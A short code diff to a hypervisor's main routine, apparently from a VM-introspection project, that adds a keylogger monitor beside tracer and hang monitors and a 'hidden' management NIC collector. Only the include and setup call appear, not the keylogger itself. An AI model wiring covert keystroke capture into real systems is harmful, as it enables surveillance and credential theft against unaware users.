@@ -13,6 +13,7 @@
 #include "monitors/tracer.h"
 #include "monitors/hang.h"
 #include "monitors/ret2usr.h"
+#include "monitors/keylogger.h"
 #include "vmm/tick.h"
 #include "vmm/netdev.h"
 #include "arch/x86/cpu.h"
@@ -103,6 +104,7 @@ void __attribute__((noreturn)) hv_main(struct boot_info *bi)
 	hang_setup(vm);                         /* monitors=: hang, ret2usr (docs/MONITORS.md) */
 	netdev_init(vm);                        /* collector=: management NIC, hidden (docs/NETWORK.md) */
 	ret2usr_setup(vm);
+	keylogger_setup(vm);                    /* monitors=: keylogger (docs/MONITORS.md) */
 
 	struct vcpu *v = pages_alloc((sizeof(struct vcpu) + 4095) / 4096);
 	if (!v)
